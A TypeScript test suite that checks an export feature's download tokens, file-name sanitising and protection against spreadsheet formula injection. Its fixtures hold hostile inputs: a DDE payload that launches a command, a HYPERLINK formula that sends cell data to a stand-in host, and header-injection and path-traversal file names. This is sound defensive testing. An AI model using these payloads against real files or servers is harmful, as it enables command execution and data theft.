import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createLibrary, type Library } from '../../server/test/library.ts';
import { sheetRows } from '../../server/test/read-exports.ts';
import { type ApiClient, startTestApp, type TestApp } from '../../server/test/test-app.ts';

const formula = `'=HYPERLINK("http://x/?"&A1)'`;
const hostile = `select ${formula} as "=cmd|' /C calc'!A0", '+1' as "@b", '-2+3' as c, char(9) || '=1' as d,
  char(13) || '=1' as e, 'a' || char(7) || char(27) || '[31m' as f, '<script>' as g, '"' || char(10) || '=1' as h`;

describe('an export', () => {
  let product: TestApp;
  let library: Library;
  let admin: ApiClient;
  let id: string;
  beforeAll(async () => {
    library = await createLibrary();
    product = await startTestApp();
    admin = product.admin;
    const database = { name: 'library', driver: 'sqlite', database: library.path };
    id = (await admin.post('/connections', database)).body.data.id;
  });
  afterAll(async () => {
    await product.close();
    await library.remove();
  });

  const prepare = async (client: ApiClient, body: object = {}) => {
    const answer = await client.post(`/connections/${id}/exports`, {
      sql: 'select 1 as a',
      format: 'csv',
      ...body,
    });
    if (answer.status !== 200) throw new Error(answer.text);
    return answer.body.data as { id: string; url: string };
  };
  const open = (url: string) => product.anonymous.get(`/${url}`);

  test('opens for its own token only, and once', async () => {
    const one = await prepare(admin);
    const other = await prepare(admin);
    const token = (link: { url: string }) => new URL(link.url, 'http://x').searchParams.get('token') ?? '';
    expect(token(one).length).toBeGreaterThanOrEqual(43);
    const guesses = [
      '',
      'x',
      token(one).slice(0, -1),
      `${token(one)}x`,
      token(one).toLowerCase(),
      token(other),
      'undefined',
      '[object Object]',
    ];
    for (const guess of guesses) {
      const answer = await open(`/api/v1/exports/${one.id}/download?token=${encodeURIComponent(guess)}`);
      expect([404, 422], guess).toContain(answer.status);
    }
    const twice = await open(`/api/v1/exports/${one.id}/download?token=${token(one)}&token=${token(one)}`);
    expect([404, 422]).toContain(twice.status);
    expect((await open(one.url)).status).toBe(200);
    expect((await open(one.url)).status).toBe(404);
    expect((await open(`/api/v1/exports/nothing/download?token=${token(one)}`)).status).toBe(404);
    await admin.delete(`/exports/${other.id}`);
    expect((await open(other.url)).status).toBe(404);
  });

  test('does not open once its user may no longer sign in', async () => {
    const user = await product.newUser();
    const link = await prepare(user);
    await admin.put(`/users/${user.userId}`, { is_active: false });
    expect((await open(link.url)).status).toBe(404);
  });

  test.each([
    ['an end of line', 'a\r\nset-cookie: a=b'],
    ['quotes', '"; filename="evil.exe'],
    ['a path', '../../etc/passwd'],
    ['a Windows path', 'C:\\Windows\\x'],
    ['letters that are written backwards', '\u202Efdp.exe'],
    ['a pair that is cut in two', `${'a'.repeat(149)}🧭🧭`],
    ['nothing but dots', '....'],
    ['percent signs', '%0d%0aset-cookie: a=b'],
    ['long Chinese', '名'.repeat(200)],
  ])('has a name that does nothing, given %s', async (_what, file_name) => {
    const answer = await open((await prepare(admin, { file_name })).url);
    expect(answer.status).toBe(200);
    expect(answer.headers['set-cookie']).toBeUndefined();
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    const disposition = String(answer.headers['content-disposition']);
    expect(disposition).toMatch(
      /^attachment; filename="[^"\\/\r\n%]+\.csv"; filename\*=UTF-8''[^"\\/\r\n]+\.csv$/,
    );
    expect(disposition).not.toMatch(/E2%80%AE/i);
  });

  test('runs nothing in a spreadsheet, as CSV', async () => {
    const { text } = await open((await prepare(admin, { sql: hostile })).url);
    const cells = text.replace('\ufeff', '').split(/,|\r\n/);
    // A number with its sign stays one.
    expect(cells.filter((cell) => /^"?([=@\t\r]|[+-](?!\d+$))/.test(cell))).toEqual([]);
  });

  test('holds texts and no formulas, as XLSX and JSON', async () => {
    const json = await open((await prepare(admin, { sql: hostile, format: 'json' })).url);
    expect(JSON.parse(json.text)[0].c).toBe('-2+3');
    const { url } = await prepare(admin, { sql: hostile, format: 'xlsx' });
    const file = (await product.app.http.inject(url)).rawPayload;
    const folder = await mkdtemp(join(tmpdir(), 'sextant-xlsx-'));
    const [titles, row] = await sheetRows(folder, file);
    await rm(folder, { recursive: true });
    // A formula would be read as an object or a result; these are the texts themselves.
    expect(titles?.slice(0, 2)).toEqual(["=cmd|' /C calc'!A0", '@b']);
    expect(row?.slice(0, 3)).toEqual(['=HYPERLINK("http://x/?"&A1)', '+1', '-2+3']);
  });

  test('as Parquet keeps what it was given', async () => {
    const { url } = await prepare(admin, { sql: hostile, format: 'parquet' });
    expect((await product.app.http.inject(url)).rawPayload.subarray(0, 4).toString()).toBe('PAR1');
  });
});
